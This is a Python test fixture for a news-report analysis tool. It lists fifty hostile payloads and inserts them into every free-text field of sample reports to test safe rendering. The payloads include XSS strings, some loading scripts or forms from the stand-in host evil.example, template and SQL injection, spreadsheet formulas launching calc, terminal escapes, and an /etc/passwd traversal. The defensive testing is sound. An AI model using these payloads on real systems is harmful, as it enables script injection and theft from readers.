"""A hundred hostile reports: what somebody may put into a report to run in the browser of whoever reads it.

Each is told by two ways: as a text that is really read, and as a reading whose every field is hostile.
"""

from __future__ import annotations

from visits import MADE_BY

from depesche.records import (
    Actor,
    AgendaItem,
    Attribution,
    AttributionSource,
    Claim,
    ClaimPlace,
    ClaimTime,
    Cut,
    Flag,
    Instrument,
    Mention,
    Part,
    Place,
    Post,
    Published,
    Reading,
    Report,
    SourceLink,
    Span,
    TimeExpression,
)

PAYLOADS = (
    "<script>window.pwned=1</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<img src=x onerror=window.pwned=1>",
    '"><img src=x onerror="window.pwned=1">',
    "'><svg onload='window.pwned=1'>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<iframe src=javascript:parent.pwned=1>",
    "<a href=javascript:window.pwned=1>Moskau</a>",
    "<a href='data:text/html,<script>window.pwned=1</script>'>x</a>",
    "<form action=https://evil.example><input name=csrf></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example/x)}</style>",
    "<details open ontoggle=window.pwned=1>",
    "<body onload=window.pwned=1>",
    "<video><source onerror=window.pwned=1></video>",
    "<input autofocus onfocus=window.pwned=1>",
    "<object data=javascript:window.pwned=1>",
    "<embed src=//evil.example/x.swf>",
    "<template><script>window.pwned=1</script></template>",
    "</title><script>window.pwned=1</script>",
    "</textarea><script>window.pwned=1</script>",
    "</style><script>window.pwned=1</script>",
    "--><script>window.pwned=1</script><!--",
    "]]><script>window.pwned=1</script>",
    "javascript:window.pwned=1",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==",
    "{{ 7*7 }} {{ config }} {% for x in range(9) %}x{% endfor %}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "'; DROP TABLE claims; --",
    "' OR 1=1 --",
    '" UNION SELECT text FROM texts --',
    "$party $since ? :name %s %(x)s {0} {name}",
    "\u202egro.elpmaxe\u202c \u2066Moskau\u2069",
    "a\u200bb\ufeffc\u00add\u2060e",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x1b\\x",
    "𝕏i 𝓙inping 🇷🇺🇨🇳 👨‍👩‍👧‍👦 Z̸̗͔̾a̵͖͑l̶̟͘g̸͍͐o̷͓͝",
    "=cmd|'/c calc'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
    "&#60;script&#62;window.pwned=1&#60;/script&#62;",
    "<div hx-get=https://evil.example hx-trigger=load>x</div>",
    "<div hx-on:click='window.pwned=1' data-hx-on--load='window.pwned=1' hx-vals='js:{x:window.pwned=1}'>x</div>",
    "../../../etc/passwd %2e%2e%2f %00 /a/b?c=d#e",
)
"""Fifty payloads; RTL overrides, template syntax, SQL, spreadsheets and terminals among them."""


_TEXT = """Der russische Präsident Wladimir Putin PAYLOAD hat sich am 8. Mai 2025 in Moskau mit Xi Jinping getroffen. PAYLOAD Die
Gespräche seien konstruktiv gewesen, sagte der Sprecher PAYLOAD am Donnerstag der Agentur."""


def texts() -> list[tuple[str, str]]:
    """Headline and text of reports that are really read, a payload in each."""
    return [(f"Putin trifft Xi {payload}", _TEXT.replace("PAYLOAD", payload)) for payload in PAYLOADS]


def readings() -> list[Reading]:
    """A reading for each payload, hostile in every field that takes free words."""
    return [_reading(number, payload) for number, payload in enumerate(PAYLOADS)]


def _reading(number: int, bad: str) -> Reading:
    head = f"Report {number}. "
    text = f"{head}{bad} met Putin."
    span = Span(begin=len(head), end=len(text))
    part = Part(text=bad, begin=len(head), end=len(head) + len(bad), actor=f"a-{bad}", name=bad, country="RUS")
    other = Part(text="Putin", begin=len(text) - 6, end=len(text) - 1, actor="putin", name=f"Putin {bad}", country="CHN")
    mention = Mention(begin=len(head), end=len(head) + len(bad), form="name", score=0.5, why=bad)
    report = Report(
        id=f"{number:016x}", text=text, title=bad, doc=bad, outlet=bad, url=bad, origin=bad, language="en",
        published=Published(earliest="2025-05-08", latest="2025-05-08", basis="given", why=bad),
        cuts=(Cut(text=bad, kind="other", rule=bad),), extra={bad: bad},
    )  # fmt: skip
    claim = Claim(
        id="c1", type="CONSULT", mode="visit", status="occurred", trigger=(Span(begin=len(text) - 10, end=len(text) - 7),), actors=(part,),
        recipients=(other,), on_behalf_of=(part,), time=ClaimTime(earliest="2025-05-08", latest="2025-05-08", edtf="2025-05-08"),
        place=ClaimPlace(text=bad, country="RUS"), agenda=(AgendaItem(text=bad, begin=0, end=1),), contexts=(bad,),
        instruments=(Instrument(text=bad, begin=0, end=1, id=bad),), sources=(SourceLink(text=bad, name=bad, kind="person"),),
        attribution="a1", evidence=(span,), rule=bad, confidence=0.1, why=bad,
    )  # fmt: skip
    return Reading(
        report=report, made_by=MADE_BY, claims=(claim,),
        times=(TimeExpression(begin=0, end=6, type="DATE", value=bad, anchor=bad, rule=bad),),
        actors=(Actor(id=f"a-{bad}", name=bad, kind="person", country="RUS", wikidata=bad, posts=(Post(title=bad, body=bad),), mentions=(mention,)),),
        places=(Place(id=bad, name=bad, country="RUS", mentions=(mention,)),),
        attributions=(Attribution(id="a1", source=AttributionSource(begin=0, end=6, kind="person"), content=(span,), form="direct",
            addressee=bad, venue=bad, rule=bad),),
        flags=(Flag(kind="loaded_word", begin=0, end=6, why=bad, rule=bad, neutral=bad),
            Flag(kind="loaded_word", begin=0, end=min(5, len(bad)), where="title", why=bad, rule=bad)),
    )  # fmt: skip
